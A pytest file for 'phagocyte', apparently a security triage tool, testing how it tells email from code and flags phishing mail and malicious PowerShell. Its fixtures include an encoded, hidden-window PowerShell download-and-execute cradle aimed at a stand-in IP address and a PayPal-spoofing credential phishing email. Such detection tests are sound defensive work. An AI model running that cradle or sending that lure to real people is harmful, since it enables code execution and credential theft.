"""`phago run`'s artefact stage: mail and code among the inputs go to the analysers, by content."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from phagocyte.analysers.artefacts import analyse_artefacts, looks_like_email
from phagocyte.analysers.scan import Scanner
from tests.email.messages import message

_PS = ("powershell -nop -w hidden -enc " + base64.b64encode(
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')".encode("utf-16-le")).decode()).encode()
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504


@pytest.mark.parametrize(("head", "name", "expected"), [
    (message(), "x.eml", True),
    (b"From alice@example.org Tue Mar  3 10:00:00 2026\n" + message(), "inbox", True),
    (b"Received: from a by b\n\tfor <x@y>\nFrom: a@b.example\nSubject: hi\n\nbody", "noext", True),
    (_OLE, "mail.msg", True),
    (_OLE, "report.doc", False),  # an OLE2 file not named .msg is an Office document
    (b"From: a@b.example\n\nonly one header", "x.eml", False),
    (b"Subject: hello\nX-Thing: 1\n\nno From header", "x.txt", False),
    (_PS, "a.ps1", False),
    (b"from: dev\nto: prod\n", "deploy.yml", True),  # header-shaped YAML: a clean mail verdict, not a crash
    (b"\x00\x01binary", "x.bin", False),
    (b"", "empty", False),
])
def test_looks_like_email(head: bytes, name: str, expected: bool) -> None:
    assert looks_like_email(head, name) is expected


def test_mail_and_code_are_judged_and_become_alerts(tmp_path: Path) -> None:
    phish = message(sender="PayPal <service@paypa1-secure.com>", to="anna@example.org",
                    subject="Urgent: verify your password",
                    html='<a href="http://203.0.113.7/login">https://www.paypal.com/signin</a> '
                         "verify your password immediately or your account will be suspended")
    (tmp_path / "a.eml").write_bytes(phish)
    (tmp_path / "b.ps1").write_bytes(_PS)
    (tmp_path / "copy.ps1").write_bytes(_PS)
    (tmp_path / "c.dat").write_bytes(bytes(range(256)) * 8)
    files = [tmp_path / n for n in ("a.eml", "b.ps1", "copy.ps1", "c.dat", "missing.eml")]
    report = analyse_artefacts(files, scanner=Scanner())
    by_path = {Path(v.path).name: v for v in report.verdicts}
    assert by_path["a.eml"].analyser == "email" and by_path["a.eml"].label == "phishing"
    assert by_path["b.ps1"].analyser == "scan" and by_path["b.ps1"].label == "malicious"
    assert by_path["b.ps1"].kind == "powershell"
    assert {Path(p).name for p, _ in report.unrecognised} == {"c.dat", "missing.eml"}, "said, never dropped"
    rules = sorted(a["rule.id"] for a in report.alerts)
    assert rules == ["email-phishing", "scan.powershell.malicious", "scan.powershell.malicious"]
    mail = next(a for a in report.alerts if a["rule.id"] == "email-phishing")
    assert mail["user.name"] == "anna" and mail["log.file.path"] == str(tmp_path / "a.eml")
    assert mail["log.file.line"] == 1
    ids = [a["event.id"] for a in report.alerts]
    assert len(set(ids)) == 3, "the same script in two files is two alerts"
    again = analyse_artefacts(files, scanner=Scanner())
    assert [a["event.id"] for a in again.alerts] == ids, "run after run, the same alerts"
    assert all(a["@timestamp"] is not None for a in report.alerts), "triage orders alerts by time"


def test_mbox_messages_are_referenced_by_their_first_line(tmp_path: Path) -> None:
    phish = message(sender="PayPal <service@paypa1-secure.com>", subject="Urgent: verify your password",
                    html='<a href="http://203.0.113.7/login">https://www.paypal.com/signin</a> verify your password '
                         "immediately or your account will be suspended").replace(b"\r\n", b"\n")
    box = b"From a@b Tue Mar  3 10:00:00 2026\n" + message().replace(b"\r\n", b"\n") + b"\n"
    second = box.count(b"\n") + 1
    box += b"From c@d Tue Mar  3 11:00:00 2026\n" + phish + b"\n"
    (tmp_path / "inbox").write_bytes(box)
    report = analyse_artefacts([tmp_path / "inbox"], scanner=Scanner())
    assert [v.label for v in report.verdicts] == ["clean", "phishing"]
    (alert,) = report.alerts
    assert (alert["log.file.path"], alert["log.file.line"]) == (str(tmp_path / "inbox"), second)
    assert box.splitlines()[second - 1].startswith(b"From c@d")
